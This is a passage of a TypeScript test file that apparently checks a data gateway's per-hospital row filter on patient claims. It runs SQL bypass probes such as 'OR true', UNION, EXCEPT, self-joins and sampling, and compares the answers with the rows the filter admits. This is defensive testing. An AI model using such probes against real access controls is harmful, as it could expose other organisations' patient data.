  { name: 'EXCEPT over neighbouring ids', sql: (t) => `SELECT claim_id + 1 FROM ${t} WHERE claim_id < 1000300 EXCEPT SELECT claim_id FROM ${t}`, detectsOpenFilter: true },
  { name: 'self FULL OUTER JOIN on neighbouring ids', sql: (t) => `SELECT t1.claim_id, t2.claim_id FROM ${t} t1 FULL OUTER JOIN ${t} t2 ON t1.claim_id = t2.claim_id + 1 WHERE t1.claim_id < 1000300`, detectsOpenFilter: true },
  { name: 'a CTE counting every row', sql: (t) => `WITH c AS (SELECT * FROM ${t}) SELECT count(*), max(claim_id) FROM c`, detectsOpenFilter: true },
  { name: 'rows of other hospitals', sql: (t) => `SELECT * FROM ${t} WHERE hospital <> 'North Hospital'`, detectsOpenFilter: true },
  { name: 'OR true', sql: (t) => `SELECT * FROM ${t} WHERE hospital = 'South Hospital' OR true ORDER BY claim_id LIMIT 100`, detectsOpenFilter: true },
  { name: 'UNION with a constant', sql: (t) => `SELECT hospital FROM ${t} UNION SELECT 'Elsewhere'`, detectsOpenFilter: true },
  { name: 'rows with a NULL hospital', sql: (t) => `SELECT count(*) FROM ${t} WHERE hospital IS NULL`, detectsOpenFilter: false },
  { name: 'USING SAMPLE', sql: (t) => `SELECT * FROM ${t} USING SAMPLE 50 ROWS`, kind: 'sample', detectsOpenFilter: true },
  // bernoulli, half the rows: system sampling at 5% picks whole 2048-row vectors and is usually empty, so it noticed nothing by chance
  { name: 'TABLESAMPLE', sql: (t) => `SELECT * FROM ${t} TABLESAMPLE 50% (bernoulli)`, kind: 'sample', detectsOpenFilter: true },
];

type Answer = { readonly ok: true; readonly rows: readonly string[] } | { readonly ok: false; readonly error: string };

const asRows = (rows: readonly Record<string, unknown>[]): string[] => rows.map((r) => JSON.stringify(Object.values(r))).sort();

/** The same query by DuckDB directly, over the rows the filter is meant to admit (north_admin's visible columns only). */
async function reference(f: Fixture, sql: string): Promise<Answer> {
  try {
    return { ok: true, rows: asRows(await f.direct(sql)) };
  } catch (e) {
    return { ok: false, error: e instanceof Error ? e.message : String(e) };
  }
}

/** What the probe reveals beyond the admitted rows (null: nothing), through the gateway as north_admin. */
async function probeLeak(f: Fixture, probe: Probe, via: typeof viaLibrary): Promise<string | null> {
  const admitted = `(SELECT * EXCLUDE (ssn, patient_name) FROM read_parquet('${f.claimsFile}') WHERE ${ADMITTED})`;
  const o = await via(f, 'north_admin', probe.sql(T, f));
  assert.ok(o.status < 500, `server error ${o.status} ${o.code} ${o.message}`);
  const got: Answer = o.ok ? { ok: true, rows: asRows(o.rows) } : { ok: false, error: `${o.code}: ${o.message}` };
  if (probe.kind === 'sample') {
    const all = await reference(f, `SELECT * FROM ${admitted}`);
    if (!got.ok || !all.ok) return got.ok ? `reference failed` : `refused: ${got.error}`;
    const allowed = new Set(all.rows);
    const extra = got.rows.filter((r) => !allowed.has(r));
    return extra.length === 0 ? null : `${extra.length} sampled row(s) outside the admitted rows, e.g. ${extra[0]}`;
  }
  const want = await reference(f, probe.sql(admitted, f));
  if (!want.ok) return got.ok ? `the reference failed (${want.error}) but the gateway answered` : null;
  if (!got.ok) return `failed where the admitted rows answer: ${got.error}`;
  if (got.rows.length !== want.rows.length) return `${got.rows.length} row(s), the admitted rows give ${want.rows.length}`;
  const differ = got.rows.findIndex((r, i) => r !== want.rows[i]);
  return differ < 0 ? null : `answered ${got.rows[differ]} where the admitted rows give ${want.rows[differ]}`;
}

describe('row filter probes', () => {
  // Threat: north_admin learns anything about other hospitals' rows (a count, an id, a window position, an error) through the row filter.
  for (const probe of PROBES) {
    it(`stops a row filter probe by ${probe.name}: the answer is the one over North Hospital rows only`, async () => {
      for (const via of [viaLibrary, viaHttp]) {
        const leak = await probeLeak(f, probe, via);
        assert.equal(leak, null, `${via.name}: ${probe.sql(T, f)}: ${leak}`);
      }
    });
  }

  it('the probes catch a data filter that admits every hospital (hospital IS NOT NULL), through the real policy', async () => {
    // Threat: weak probes that pass whatever the filter does; here the real data filter is widened through the API and the probes must notice.
    const path = '/v1/filters';
    const before = await f.server.call('GET', `${path}?table=lake.claims.patient_claims`);
    const original = (before.json.filters as { name: string; rowFilter: string }[]).find((x) => x.name === 'north_hospital_only');
    assert.equal(original?.rowFilter, ADMITTED);
    const put = (rowFilter: string) => f.server.call('POST', path, { table: 'lake.claims.patient_claims', name: 'north_hospital_only', rowFilter });
    assert.equal((await put('hospital IS NOT NULL')).status, 201);
    try {
      const missed: string[] = [];
      for (const probe of PROBES) {
        const leak = await probeLeak(f, probe, viaLibrary);
        if (probe.detectsOpenFilter && leak === null) missed.push(probe.name);
        if (!probe.detectsOpenFilter) assert.equal(leak, null, `${probe.name} should see no difference: ${leak}`);
      }
      assert.deepEqual(missed, [], `probes that did not notice the widened filter: ${missed.join(', ')}`);
    } finally {
      assert.equal((await put(ADMITTED)).status, 201);
    }
    // Restored: the probes pass again.
    assert.equal(await probeLeak(f, PROBES[0] as Probe, viaLibrary), null);
  });
});
